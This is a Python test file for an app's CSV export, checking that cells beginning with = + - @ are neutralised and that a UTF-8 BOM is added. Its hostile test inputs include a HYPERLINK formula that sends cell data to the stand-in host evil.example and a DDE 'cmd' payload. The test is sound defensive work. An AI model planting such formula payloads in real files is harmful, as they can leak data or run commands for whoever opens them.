"""Issue 16: CSV exports neutralise formula cells (= + - @) — every export goes through
app.spreadsheets.write_csv (the only CSV export today: the month's records, app/followups/figures.py)."""

from __future__ import annotations

import csv
import io

from app.followups.figures import _csv


def test_the_month_export_neutralises_formula_cells():
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "正常"]
    data = _csv(["a", "b", "c", "d", "e"], [hostile, [1, 2, 3, 4, 5]])
    assert data.startswith("\ufeff".encode())  # Excel in mainland China reads it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + v for v in hostile[:4]] + ["正常"]
    assert rows[2] == ["1", "2", "3", "4", "5"]  # numbers stay numbers
